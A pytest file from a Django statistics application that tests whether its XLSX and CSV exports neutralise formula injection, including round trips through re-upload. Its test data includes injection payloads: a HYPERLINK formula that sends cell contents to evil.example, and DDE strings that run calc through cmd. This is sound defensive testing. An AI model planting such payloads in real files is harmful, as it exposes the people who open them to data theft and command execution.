"""Formula injection (issue 11): a note, source or printed name such as ``=HYPERLINK(...)`` is text in
every export and never a live formula. XLSX: a string cell (with Excel's quote prefix when it starts with
= + - @ tab or CR); CSV: a leading ``'`` (OWASP). Numbers stay numbers, and an export uploaded again
changes nothing."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from core.export import FORMULA_STARTS, csv_row, restore_text, safe_text
from entry.services import observation_save_draft
from indicators.models import Indicator, Observation
from parks.models import Park
from plans.models import PlanIndicator
from tests.core.api_fixtures import *  # noqa: F403
from tests.entry.factories import approved
from tests.entry.test_excel import counts, upload

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点此核对")'
# One text per dangerous first character, the example, and text that is a negative number.
DANGEROUS = {
    "equals": "=1+1",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "hyperlink": HYPERLINK,
    "negative-text": "-5",
}
# Every door trims the ends of a note, so a note starting with a tab or CR can only be in the database
# (legacy data); the round trips use the notes the doors can store, and one already starting with '.
ROUND_TRIP = {
    **{k: v for k, v in DANGEROUS.items() if k not in ("tab", "cr")},
    "quoted": "'=1+1",
    "plain": "统计局快报",
}

SHEET_EXPORTS = {
    "plan": ("/entry/yuxi-hitech/2023/export/", "xlsx"),
    "long": ("/entry/yuxi-hitech/2023/export/?layout=long", "xlsx"),
    "csv": ("/entry/yuxi-hitech/2023/export/?layout=csv", "csv"),
    "plan-actuals": ("/plans/yuxi-14th-fyp/export/?layout=long", "xlsx"),
    "api-xlsx": ("/api/v1/observations/?park=yuxi-hitech&format=xlsx", "xlsx"),
    "api-csv": ("/api/v1/observations/?park=yuxi-hitech&format=csv", "csv"),
}


# --- reading the files as a spreadsheet would ----------------------------------------------------------


def xlsx_cells(data: bytes) -> list:
    """Every cell of every worksheet, after checking the file holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(?:\w+:)?f[ >/]", archive.read(name)), f"a formula in {name}"
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def assert_xlsx_text(data: bytes, text: str) -> None:
    cells = xlsx_cells(data)
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    # XML reads a carriage return back as a line feed (in Excel too): "\r=1+1" is read as "\n=1+1".
    held = [c for c in cells if c.value in (text, text.replace("\r", "\n"))]
    assert held, f"{text!r} is not in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix == text.startswith(FORMULA_STARTS) for c in held)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_csv_text(data: bytes, text: str, *, numbers: tuple[int, ...] = ()) -> None:
    """No cell starts with = + - @ tab or CR, except numbers in the number columns; ``text`` is there
    with the protective '."""
    rows = csv_rows(data)
    for row in rows[1:]:
        for index, cell in enumerate(row):
            if index in numbers and re.fullmatch(r"-?[0-9.]+", cell):
                continue
            assert not cell.startswith(FORMULA_STARTS), (index, cell)
    assert any(cell == "'" + text for row in rows for cell in row), f"'{text!r} is not in the file"


# --- the rule itself -------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*DANGEROUS.values(), "'=1+1", "''+1"])
def test_safe_text_guards_formulas_and_restore_text_is_its_inverse(text):
    guarded = safe_text(text)
    assert guarded == "'" + text
    assert restore_text(guarded) == text


@pytest.mark.parametrize(
    "value", ["统计局快报", "1+1", "a=b", "'quoted'", "", 5, -5, Decimal("-5"), 2.5, None]
)
def test_safe_text_leaves_harmless_text_and_numbers_alone(value):
    assert safe_text(value) == value
    assert restore_text(value) == value
    assert csv_row([value]) == ["" if value is None else value]


# --- every export --------------------------------------------------------------------------------------


@pytest.fixture
def staff_client(client, users):
    client.force_login(users["staff"])
    return client


@pytest.mark.parametrize("export", SHEET_EXPORTS)
@pytest.mark.parametrize("name", DANGEROUS)
def test_no_export_holds_a_formula(staff_client, client_for, export, name):
    text = DANGEROUS[name]
    approved("yuxi-hitech", "gdp-incl-tobacco", 2023, "612.5", note=text)
    obs = approved("yuxi-hitech", "fixed-asset-investment", 2022, "-60.25", note="负数是数字")
    Observation.objects.filter(pk=obs.pk).update(source=text)
    url, kind = SHEET_EXPORTS[export]
    response = client_for("staff").get(url) if export.startswith("api") else staff_client.get(url)
    assert response.status_code == 200, response.content[:300]
    if kind == "xlsx":
        assert_xlsx_text(response.content, text)
        negative = [c for c in xlsx_cells(response.content) if c.value == -60.25]
        assert negative and negative[0].data_type == "n"  # a negative number stays a number
    else:
        value_column = csv_rows(response.content)[0].index("数值")
        assert_csv_text(response.content, text, numbers=(value_column,))
        assert any(row[value_column] == "-60.25" for row in csv_rows(response.content))


@pytest.mark.parametrize("name", ["hyperlink", "minus", "at"])
def test_printed_names_and_categories_are_text_in_the_plan_exports(staff_client, name):
    text = DANGEROUS[name]
    PlanIndicator.objects.filter(plan__code="yuxi-14th-fyp", order=1).update(
        name_printed=text, category_printed=text + "类"
    )
    approved("yuxi-hitech", "gdp-incl-tobacco", 2023, "612.5")
    for url in ("/plans/yuxi-14th-fyp/export/", "/plans/yuxi-14th-fyp/export/?layout=long"):
        response = staff_client.get(url)
        assert response.status_code == 200
        assert_xlsx_text(response.content, text)


# --- round trips: an export uploaded again changes nothing -----------------------------------------------


@pytest.mark.parametrize(
    ("layout", "filename"),
    [("", "玉溪2023.xlsx"), ("?layout=long", "玉溪2023-长表.xlsx"), ("?layout=csv", "玉溪2023.csv")],
)
@pytest.mark.parametrize("name", ROUND_TRIP)
def test_an_export_uploaded_again_shows_zero_changes(client, users, layout, filename, name):
    staff = users["staff"]
    yuxi = Park.objects.get(code="yuxi-hitech")
    note = ROUND_TRIP[name]
    observation_save_draft(
        user=staff,
        park=yuxi,
        indicator=Indicator.objects.get(code="gdp-incl-tobacco"),
        year=2023,
        value=Decimal("612.5"),
        note=note,
    )
    assert Observation.objects.get(park=yuxi, indicator__code="gdp-incl-tobacco", year=2023).note == note
    client.force_login(staff)
    exported = client.get(f"/entry/yuxi-hitech/2023/export/{layout}")
    response = upload(client, exported.content, filename)
    assert response.status_code == 200
    got = counts(response)
    assert got["new"] == got["changed"] == got["error"] == 0, got
    assert got["unchanged"] > 0


@pytest.mark.parametrize("name", ROUND_TRIP)
def test_import_observations_reads_the_csv_export_back_as_written(client, users, tmp_path, name):
    note = ROUND_TRIP[name]
    approved("yuxi-hitech", "gdp-incl-tobacco", 2022, "591", note=note)
    client.force_login(users["staff"])
    path = tmp_path / "long.csv"
    path.write_bytes(client.get("/entry/yuxi-hitech/2023/export/?layout=csv").content)
    Observation.objects.filter(park__code="yuxi-hitech", indicator__code="gdp-incl-tobacco").update(note="")
    call_command("import_observations", str(path), stdout=io.StringIO())
    assert (
        Observation.objects.get(park__code="yuxi-hitech", indicator__code="gdp-incl-tobacco", year=2022).note
        == note
    )
